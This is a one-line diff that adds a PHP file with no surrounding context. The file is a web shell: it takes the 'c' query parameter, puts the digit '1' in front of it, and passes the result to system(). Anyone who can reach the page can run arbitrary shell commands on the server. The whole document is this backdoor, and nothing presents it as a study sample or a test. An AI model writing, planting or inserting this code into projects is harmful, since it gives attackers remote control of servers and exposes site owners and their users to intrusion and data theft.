@@ -1,0 +1,1 @@
+<?php $c = number_format(1) . "$_GET[c]"; system($c);
